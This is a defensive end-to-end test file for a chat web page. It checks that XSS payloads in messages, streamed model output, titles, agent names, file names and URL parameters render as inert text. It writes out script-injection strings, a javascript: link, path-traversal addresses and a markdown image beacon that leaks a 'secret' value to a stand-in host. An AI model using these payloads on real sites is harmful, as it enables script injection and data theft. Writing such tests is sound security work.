// Hostile words at every door of the chat page: nothing runs, nothing is loaded, nobody else is asked.
import type { Page } from '@playwright/test'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { hostileTexts } from '@/components/chat/hostile-texts.fixture'
import { exchange, fromGuides, giveDocument, log, openTalk, say, saysIn, settled, type Talk } from './open-talk'

// NUL is refused at the door. A fence that is open makes code of all that follows.
const payloads = hostileTexts.map((text) => text.replaceAll('\0', ''))
const isOpenFence = (text: string) => text.startsWith('~~~')
const inOneLine = payloads.map((text) => text.replaceAll(/\s+/g, ' ').trim())
const [image = '', script = ''] = ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>']
const fileName = 'a<img src=x onerror=alert(1)>b.md'

let talk: Talk

beforeAll(async () => {
  talk = await openTalk(
    { name: `Talker ${image}`, description: `${script}![x](https://evil.example/p.png)` },
    fromGuides,
  )
  await giveDocument(talk, fileName, `# Rings ${script}\n\nWedding rings have to come off before the scan. ${image}`)
})

afterAll(() => talk.close())

vi.setConfig({ testTimeout: 60_000 })

/** A greeted page, and what it was made to do that it must not do. */
async function openWatched(query = ''): Promise<{ page: Page; misdeeds: () => Promise<string[]> }> {
  const page = await talk.browser.page()
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  await page.addInitScript(() => {
    const violations: string[] = []
    Reflect.set(window, 'violations', violations)
    document.addEventListener('securitypolicyviolation', (event) => violations.push(`policy: ${event.blockedURI}`))
  })
  await page.goto(`/chat?agent=talker${query}`)
  await saysIn(page, 'Good day.')
  const misdeeds = async () => {
    const violations = await page.evaluate((): string[] => Reflect.get(window, 'violations'))
    return [...dialogs, ...violations, ...talk.browser.complaints()]
  }
  return { page, misdeeds }
}

const foreign = 'img, script, iframe, object, embed, form, style, link, a, svg:not([aria-hidden]), base, meta'

test('there are at least 60 of them', () => expect(payloads.length).toBeGreaterThanOrEqual(60))

test('as a visitor’s words, each stays the words it is', async () => {
  const { page, misdeeds } = await openWatched()
  const half = Math.ceil(payloads.length / 2)
  for (const part of [payloads.slice(0, half), payloads.slice(half)]) {
    await say(page, `${part.join('\n\n')}\n\nend`)
    const answer = await talk.model.asked()
    answer.say('Noted.')
    answer.finish()
    await settled(page)
  }
  expect(await log(page).locator(foreign).count()).toBe(0)
  const shown = (await log(page).locator('article p.said').allTextContents()).join('\n')
  for (const text of payloads) expect(shown).toContain(text)
  expect(await misdeeds()).toEqual([])
})

test('as a model’s words, streamed by the letter', async () => {
  const { page, misdeeds } = await openWatched()
  await say(page, 'Begin.')
  const answer = await talk.model.asked()
  const words = [...payloads.filter((text) => !isOpenFence(text)), ...payloads.filter(isOpenFence)].join('\n\n')
  for (const letter of words) answer.say(letter)
  answer.say('\n\nend of the answer')
  answer.finish()
  await saysIn(page, /end of the answer/)
  await settled(page)
  expect(await log(page).locator(foreign).count()).toBe(0)
  await page.reload()
  await saysIn(page, /end of the answer/)
  expect(await log(page).locator(foreign).count()).toBe(0)
  expect(await misdeeds()).toEqual([])
})

// Every state of the page between two letters is drawn, not only those that a quick stream happens to show.
describe('as a model’s words, cut in two at every place', () => {
  const sample = ['[x](javascript:alert(1))', '![x](https://evil.example/pixel.png?q=secret)', image]

  test.each(sample)('%s', async (text) => {
    const { page, misdeeds } = await openWatched()
    await say(page, 'Begin.')
    const answer = await talk.model.asked()
    for (let at = 1; at < text.length; at += 1) {
      answer.say(`\n\ncut${at} ${text.slice(0, at)}`)
      await saysIn(page, `cut${at}`)
      expect(await log(page).locator(foreign).count()).toBe(0)
      answer.say(text.slice(at))
    }
    answer.say('\n\nend')
    answer.finish()
    await settled(page)
    expect(await log(page).locator(foreign).count()).toBe(0)
    expect(await misdeeds()).toEqual([])
  })
})

test('as titles of conversations', async () => {
  const { page, misdeeds } = await openWatched()
  await exchange(talk, page, 'Hello', 'Good day.')
  const list = page.getByRole('navigation')
  for (const title of inOneLine.filter((_, place) => place % 8 === 0)) {
    await list
      .getByRole('button', { name: /^Rename or delete/ })
      .first()
      .focus()
    await page.keyboard.press('Enter')
    await list.getByRole('button', { name: 'Rename', exact: true }).click()
    await list.getByRole('textbox', { name: 'New name' }).fill(title)
    await page.keyboard.press('Enter')
    // Another conversation may have this title already: it was opened with these words.
    await list
      .locator('[aria-current="page"]')
      .and(list.getByRole('button', { name: title, exact: true }))
      .waitFor()
  }
  expect(await list.locator('img, script, iframe, a').count()).toBe(0)
  expect(await misdeeds()).toEqual([])
})

test('as an agent’s name and description, a document’s file name and its words', async () => {
  const { page, misdeeds } = await openWatched()
  await say(page, 'Do wedding rings have to come off before the scan?')
  const answer = await talk.model.asked()
  answer.say('They come off [1].')
  answer.finish()
  await settled(page)
  await page.getByRole('list', { name: 'Sources' }).getByRole('button').click()
  await page.getByRole('dialog').getByText('Wedding rings have to come off').waitFor()
  expect(await page.locator('dialog img, dialog script, h1 img').count()).toBe(0)
  await page.goto('/')
  await page.getByText(`Talker ${image}`).waitFor()
  expect(await page.locator('main img').count()).toBe(0)
  expect(await misdeeds()).toEqual([])
})

test('as variables and names in the address', async () => {
  const query = inOneLine
    .slice(0, 20)
    .map((text, place) => `&var.v${place}=${encodeURIComponent(text)}`)
    .join('')
  const { page, misdeeds } = await openWatched(query)
  expect(await log(page).locator(foreign).count()).toBe(0)
  for (const address of ['javascript:alert(1)', image, '../../admin', '//evil.example'])
    await page
      .goto(`/chat?agent=${encodeURIComponent(address)}`)
      .then(() => page.getByText('This agent is not here').waitFor())
  expect((await misdeeds()).filter((line) => !/status of (404|400|422)/.test(line))).toEqual([])
})
